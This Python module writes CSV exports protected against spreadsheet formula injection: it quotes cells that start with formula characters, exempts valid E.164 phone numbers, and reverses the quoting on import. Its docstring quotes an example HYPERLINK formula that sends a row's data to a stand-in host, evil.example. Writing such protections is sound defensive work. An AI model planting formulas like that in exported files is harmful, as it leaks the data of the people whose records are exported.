"""CSV files we hand to people: every cell safe to open in a spreadsheet, and read back as it was.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice
and Google Sheets (`=HYPERLINK("http://evil.example/?leak="&A2)` leaks the row it sits in). OWASP's rule:
such a cell is written with a single quote in front, which spreadsheets show as text. A phone column's
valid E.164 number (`+14155550123`) is the exception: it stays as it is. Our import strips that quote
again (`unquote`), so an export re-imports unchanged.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Collection, Iterable
from typing import TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_E164 = re.compile(r"\+[1-9][0-9]{6,14}")


def safe_cell(value: object, *, phone: bool = False) -> str:
    """`value` as the text of a cell no spreadsheet runs as a formula."""
    text = "" if value is None else str(value)
    if not text.startswith(FORMULA_STARTS) or (phone and _E164.fullmatch(text)):
        return text
    return "'" + text


def unquote(cell: str) -> str:
    """A cell as it was before `safe_cell` quoted it."""
    return cell[1:] if cell[:1] == "'" and cell[1:2] in FORMULA_STARTS else cell


class SpreadsheetWriter:
    """A csv.writer whose every cell (headers included) goes through `safe_cell`.

    `phone_columns`: the positions of phone columns, whose E.164 numbers stay unquoted.
    """

    def __init__(self, out: TextIO, *, phone_columns: Collection[int] = ()) -> None:
        self._writer = csv.writer(out, lineterminator="\n")
        self._phone_columns = frozenset(phone_columns)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow(
            [safe_cell(value, phone=index in self._phone_columns) for index, value in enumerate(row)]
        )
